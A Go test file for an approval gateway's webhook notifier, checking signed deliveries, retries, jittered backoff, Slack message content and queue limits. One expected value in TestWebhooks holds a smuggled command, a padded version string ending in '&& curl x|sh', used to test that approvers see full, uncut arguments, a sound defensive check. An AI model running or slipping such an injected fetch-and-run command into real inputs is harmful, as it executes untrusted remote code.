package approvals

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/require"
)

// hookServer is a webhook receiver that answers 503 to its first fails deliveries and
// records the rest with their headers.
type hookServer struct {
	mu     sync.Mutex
	fails  int
	bodies [][]byte
	heads  []http.Header
	*httptest.Server
}

func newHookServer(t *testing.T, fails int) *hookServer {
	t.Helper()
	h := &hookServer{fails: fails}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		h.mu.Lock()
		defer h.mu.Unlock()
		if h.fails > 0 {
			h.fails--
			w.WriteHeader(http.StatusServiceUnavailable)
			return
		}
		h.bodies = append(h.bodies, b)
		h.heads = append(h.heads, r.Header.Clone())
	}))
	t.Cleanup(h.Close)
	return h
}

func (h *hookServer) got() ([][]byte, []http.Header) {
	h.mu.Lock()
	defer h.mu.Unlock()
	return slices.Clone(h.bodies), slices.Clone(h.heads)
}

func secretFile(t *testing.T, secret string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "secret")
	require.NoError(t, os.WriteFile(p, []byte(secret+"\n"), 0o600))
	return p
}

func runHooks(t *testing.T, w *Webhooks) {
	t.Helper()
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan struct{})
	go func() { defer close(done); w.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done })
}

// verifyHook checks a delivery the way docs/approvals.md tells a receiver to, without the
// package's own Sign.
func verifyHook(t *testing.T, secret string, h http.Header, body []byte) {
	t.Helper()
	ts := h.Get("X-Mcpguard-Timestamp")
	sec, err := strconv.ParseInt(ts, 10, 64)
	require.NoError(t, err)
	require.InDelta(t, float64(time.Now().Unix()), float64(sec), 300, "timestamp within the 5-minute window")
	m := hmac.New(sha256.New, []byte(secret))
	m.Write([]byte(ts + "." + string(body)))
	want := "v1=" + hex.EncodeToString(m.Sum(nil))
	require.True(t, hmac.Equal([]byte(want), []byte(h.Get("X-Mcpguard-Signature"))), "signature verifies")
}

func TestWebhooks(t *testing.T) {
	jsonHook, slackHook := newHookServer(t, 2), newHookServer(t, 2)
	gone := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNotFound) }))
	t.Cleanup(gone.Close)

	cfg := DefaultConfig().Notify
	cfg.Backoff, cfg.MaxBackoff = time.Millisecond, 4*time.Millisecond
	cfg.Webhooks = []WebhookConfig{
		{Name: "audit", URL: jsonHook.URL, Format: "json", SecretFile: secretFile(t, "s3cr3t")},
		{URL: slackHook.URL, Format: "slack"},
		{URL: gone.URL, Format: "json", SecretFile: secretFile(t, "other")},
	}
	reg := prometheus.NewRegistry()
	w, err := NewWebhooks(cfg, func(id string) string { return "https://gw.example/approvals#req-" + id }, nil, nil, reg)
	require.NoError(t, err)
	runHooks(t, w)

	r := Request{
		ID: "R1", State: Pending, Tool: "deploy", Requester: Party{Subject: "agent-<1>", Issuer: "https://idp.test", Groups: []string{"agents"}},
		Rule: "deploys", Message: "deploys need a release manager", PolicyVersion: "sha256:abc", Approvers: []string{"release-managers"},
		Route: Route{Authority: "tools:8080", Path: "/mcp"}, SessionID: "sess-1",
		Arguments: json.RawMessage(`{"env":"prod","version":` + strconvQuote(padded) + `}`),
		Params:    json.RawMessage(`{"Arguments":{"env":"dev"},"arguments":{"env":"prod","version":` + strconvQuote(padded) + `},"name":"deploy"}`),
	}
	w.Notify(Event{Type: EventRequested, Request: r})
	require.Eventually(t, func() bool {
		return counter(t, reg, "mcpguard_approvals_notifications_total", "failed") == 1 &&
			counter(t, reg, "mcpguard_approvals_notifications_total", "sent") == 2
	}, 10*time.Second, 5*time.Millisecond)
	require.InDelta(t, 1.0, counterOf(t, reg, "webhook_2", "failed"), 1e-9, "the 404 hook failed at once, under its own label")
	require.InDelta(t, 1.0, counterOf(t, reg, "audit", "sent"), 1e-9)

	bodies, heads := jsonHook.got()
	require.Len(t, bodies, 1, "delivered after retries")
	verifyHook(t, "s3cr3t", heads[0], bodies[0])
	require.Equal(t, "requested", heads[0].Get("X-Mcpguard-Event"))
	var doc map[string]any
	require.NoError(t, json.Unmarshal(bodies[0], &doc))
	require.Equal(t, "https://gw.example/approvals#req-R1", doc["approve_url"])
	require.Equal(t, "approval_requested", doc["type"])
	require.Equal(t, "R1:requested", doc["id"])
	a := doc["approval"].(map[string]any)
	require.Equal(t, "deploy", a["tool"])
	require.Equal(t, "deploys need a release manager", a["message"])
	require.Equal(t, "sha256:abc", a["policy_version"])
	require.Equal(t, "sess-1", a["session_id"])
	require.Equal(t, []any{"agents"}, a["requester"].(map[string]any)["groups"])
	require.Equal(t, padded, a["params"].(map[string]any)["arguments"].(map[string]any)["version"], "complete, never cut")
	require.Len(t, a["fields"], 4)

	sb, sh := slackHook.got()
	require.Len(t, sb, 1)
	require.Empty(t, sh[0].Get("X-Mcpguard-Signature"), "a Slack incoming webhook is not signed by us")
	var msg map[string]any
	require.NoError(t, json.Unmarshal(sb[0], &msg))
	require.Contains(t, msg["text"], "https://gw.example/approvals#req-R1")
	require.Contains(t, msg["text"], "agent-&lt;1&gt;")
	blocks, err := json.Marshal(msg["blocks"])
	require.NoError(t, err)
	for _, want := range []string{
		"deploys need a release manager", "params.arguments.version = 1.4.2␠×600&& curl x|sh",
		"params.Arguments.env = dev", "tools:8080/mcp", "sess-1", "sha256:abc", "https://idp.test",
		"release-managers", "*Rule:* deploys",
	} {
		require.Contains(t, strings.ReplaceAll(string(blocks), `\u0026`, "&"), slackEscape(want))
	}
	require.NotContains(t, string(blocks), `"action_id":"approve"`, "an incoming webhook has no decision buttons")
}

// TestWebhooksDecided: a request's end (approved, denied, expired) reaches generic hooks
// as a signed decided event, whoever decided.
func TestWebhooksDecided(t *testing.T) {
	hook := newHookServer(t, 0)
	cfg := DefaultConfig().Notify
	cfg.Webhooks = []WebhookConfig{{URL: hook.URL, Format: "json", SecretFile: secretFile(t, "k")}}
	reg := prometheus.NewRegistry()
	w, err := NewWebhooks(cfg, func(id string) string { return "https://gw.example/approvals#req-" + id }, nil, nil, reg)
	require.NoError(t, err)
	runHooks(t, w)
	s, c, _, _ := newTestService(t, nil)
	s.notify = append(s.notify, w)
	ctx := t.Context()

	open := func(q string) string {
		res, err := s.Begin(ctx, sqlCall(`{"query":"`+q+`"}`))
		require.NoError(t, err)
		return res.Request.ID
	}
	approved, denied, expired := open("drop table a"), open("drop table b"), open("drop table c")
	_, err = s.Decide(ctx, approved, dba, true, "")
	require.NoError(t, err)
	_, err = s.Decide(ctx, denied, dba, false, "not today")
	require.NoError(t, err)
	c.add(2 * time.Hour)
	_, err = s.Sweep(ctx)
	require.NoError(t, err)

	outcomes := map[string]map[string]any{}
	require.Eventually(t, func() bool {
		bodies, heads := hook.got()
		for i, b := range bodies {
			verifyHook(t, "k", heads[i], b)
			var doc map[string]any
			require.NoError(t, json.Unmarshal(b, &doc))
			if doc["event"] == "decided" {
				require.Equal(t, "decided", heads[i].Get("X-Mcpguard-Event"))
				outcomes[doc["approval"].(map[string]any)["id"].(string)] = doc
			}
		}
		return len(outcomes) == 3
	}, 10*time.Second, 5*time.Millisecond)
	require.Equal(t, "approved", outcomes[approved]["outcome"])
	require.Equal(t, "alice", outcomes[approved]["approval"].(map[string]any)["decision"].(map[string]any)["by"].(map[string]any)["subject"])
	require.Equal(t, "denied", outcomes[denied]["outcome"])
	require.Equal(t, "not today", outcomes[denied]["approval"].(map[string]any)["decision"].(map[string]any)["reason"])
	require.Equal(t, "expired", outcomes[expired]["outcome"])
	require.Equal(t, "approval_decided", outcomes[expired]["type"])
}

// TestWebhooksSlowHookIsolated: a hook that hangs holds only its own queue; another hook
// gets every notification while the first is still stuck on its first one.
func TestWebhooksSlowHookIsolated(t *testing.T) {
	release := make(chan struct{})
	var hung atomic.Int32
	slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hung.Add(1)
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(slow.Close)
	t.Cleanup(func() { close(release) })
	fast := newHookServer(t, 0)

	cfg := DefaultConfig().Notify
	cfg.Timeout = time.Minute // an attempt on the slow hook outlasts the test
	cfg.Webhooks = []WebhookConfig{
		{Name: "slow", URL: slow.URL, Format: "json", SecretFile: secretFile(t, "a")},
		{Name: "fast", URL: fast.URL, Format: "json", SecretFile: secretFile(t, "b")},
	}
	reg := prometheus.NewRegistry()
	w, err := NewWebhooks(cfg, func(string) string { return "" }, nil, nil, reg)
	require.NoError(t, err)
	runHooks(t, w)
	for _, id := range []string{"A", "B", "C"} {
		w.Notify(Event{Type: EventRequested, Request: Request{ID: id}})
	}
	require.Eventually(t, func() bool { b, _ := fast.got(); return len(b) == 3 }, 10*time.Second, 5*time.Millisecond)
	require.Equal(t, int32(1), hung.Load(), "the slow hook is still on its first delivery")
	require.InDelta(t, 0.0, counterOf(t, reg, "slow", "sent"), 1e-9)
}

func TestBackoffJitter(t *testing.T) {
	cfg := DefaultConfig().Notify
	cfg.Backoff, cfg.MaxBackoff = 100*time.Millisecond, time.Second
	o := newOutbox("x", cfg, prometheus.NewCounterVec(prometheus.CounterOpts{Name: "x_total", Help: "test"}, []string{"hook", "result"}), slog.New(slog.DiscardHandler))
	for _, tc := range []struct {
		attempt int
		ceil    time.Duration
	}{{1, 100 * time.Millisecond}, {2, 200 * time.Millisecond}, {3, 400 * time.Millisecond}, {4, 800 * time.Millisecond}, {5, time.Second}, {30, time.Second}} {
		seen := map[time.Duration]bool{}
		for range 50 {
			d := o.backoff(tc.attempt)
			require.GreaterOrEqual(t, d, tc.ceil/2, "attempt %d", tc.attempt)
			require.LessOrEqual(t, d, tc.ceil, "attempt %d", tc.attempt)
			seen[d] = true
		}
		require.Greater(t, len(seen), 1, "attempt %d: waits are jittered", tc.attempt)
	}
}

func TestWebhooksQueueFull(t *testing.T) {
	cfg := DefaultConfig().Notify
	cfg.QueueSize = 1
	cfg.Webhooks = []WebhookConfig{{Name: "full", URL: "http://127.0.0.1:1/", Format: "slack"}}
	reg := prometheus.NewRegistry()
	w, err := NewWebhooks(cfg, func(string) string { return "" }, nil, nil, reg)
	require.NoError(t, err)
	w.Notify(Event{Type: EventRequested, Request: Request{ID: "a"}})
	w.Notify(Event{Type: EventRequested, Request: Request{ID: "b"}}) // nobody runs the queue: dropped
	require.InDelta(t, 1.0, counterOf(t, reg, "full", "dropped"), 1e-9)
}

// counterOf is mcpguard_approvals_notifications_total for one hook and result.
func counterOf(t *testing.T, reg *prometheus.Registry, hook, result string) float64 {
	t.Helper()
	mf, err := reg.Gather()
	require.NoError(t, err)
	for _, f := range mf {
		if f.GetName() != "mcpguard_approvals_notifications_total" {
			continue
		}
		for _, m := range f.GetMetric() {
			l := map[string]string{}
			for _, p := range m.GetLabel() {
				l[p.GetName()] = p.GetValue()
			}
			if l["hook"] == hook && l["result"] == result {
				return m.GetCounter().GetValue()
			}
		}
	}
	return -1
}

func counter(t *testing.T, reg *prometheus.Registry, name, result string) float64 {
	t.Helper()
	mf, err := reg.Gather()
	require.NoError(t, err)
	for _, f := range mf {
		if f.GetName() == name {
			sum := 0.0
			for _, m := range f.GetMetric() {
				for _, l := range m.GetLabel() {
					if l.GetName() == "result" && l.GetValue() == result {
						sum += m.GetCounter().GetValue()
					}
				}
			}
			return sum
		}
	}
	return 0
}
